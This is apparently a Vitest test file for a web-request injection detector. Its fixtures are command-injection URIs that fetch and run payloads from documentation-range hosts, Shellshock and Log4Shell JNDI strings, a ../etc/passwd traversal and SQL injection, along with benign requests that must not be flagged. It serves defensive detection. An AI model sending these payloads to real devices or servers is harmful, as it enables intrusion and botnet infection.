import { describe, expect, test } from 'vitest'
import { injectionOf } from './injected-command'

/** Forms of published exploits against devices, with addresses for documentation (RFC 5737). */
test.each([
  ['/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/a+-O+/tmp/b', '198.51.100.7'],
  ['/login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O%20/tmp/r;sh%20/tmp/r%27$', '198.51.100.7'],
  ['/cgi-bin/;cd${IFS}/var/tmp;${IFS}wget${IFS}http://198.51.100.7:57/a', '198.51.100.7'],
  ['/?vars[1][]=wget http://198.51.100.7/x86 -O /tmp/x', '198.51.100.7'],
  ['/ping?host=1.example;uname -a', ''],
  ['/set?ip=$(reboot)', ''],
  ['/set?x=`id`', ''],
  ['/set?a=1%0Atftp%20-g%20-r%20bot%20198.51.100.7', '198.51.100.7'],
  ['/set?a=;wget%20http://[2001:db8::7]:8080/x', '2001:db8::7'],
  ['/set?a=%26%26curl%20-O%20http://loader.example.net/a.sh', 'loader.example.net'],
])('a shell command in %s', (uri, target) => {
  expect(injectionOf(uri, '')).toMatchObject({ kind: 'shell', target })
})

test.each([
  ['() { :; }; /bin/bash -c "ping -c 3 198.51.100.7"', 'shell'],
  ['${jndi:ldap://198.51.100.7:1389/a}', 'lookup'],
  ['${${lower:j}ndi:ldap://198.51.100.7/a}', 'lookup'],
])('%s as the agent', (agent, kind) => {
  expect(injectionOf('/', agent)).toMatchObject({ kind, target: '198.51.100.7' })
})

test('a way out of the web folder, and a query', () => {
  expect(injectionOf('/page?get=../../../../etc/passwd', '')).toMatchObject({ kind: 'path' })
  expect(injectionOf('/page?id=1%20UNION%20SELECT%20user', '')).toMatchObject({ kind: 'query' })
  expect(injectionOf("/page?id=1'+or+'1'='1", '')).toMatchObject({ kind: 'query' })
})

test('it is decoded once, as the server does: twice encoded is text', () => {
  expect(injectionOf('/set?x=%253bwget%2520http://198.51.100.7/a', '')).toBeNull()
})

test('what is kept begins with what was smuggled, and is short', () => {
  const found = injectionOf(`/${'a'.repeat(300)}?x=;wget http://198.51.100.7/bot.sh`, '')
  expect(found?.text).toMatch(/^;wget http/)
  expect(found?.text.length).toBeLessThanOrEqual(32)
})

describe('ordinary requests are none', () => {
  test.each([
    '/v1/query?fields=name|id|type;sort=up&filter=(a;b)',
    '/css?family=Open+Sans:400|Roboto|Cat',
    '/search?q=cat+food+%26+wget+manual',
    '/search?q=how+to+use+curl+-O',
    '/set?name=Tom%27s%20room;room=2&tz=UTC+1',
    '/a/../b/index.html',
    '/rest?where=STATE=%27CA%27%20and%20POP=1',
    '/onvif/device_service;jsessionid=12',
    '/cgi-bin/luci/;stok=0123abcd/admin',
    '/price?amount=$(1,200)',
  ])('%s', (uri) => {
    expect(injectionOf(uri, 'Mozilla/5.0 (Linux; U; Android 9; AFTN Build/NS6233)')).toBeNull()
  })
})
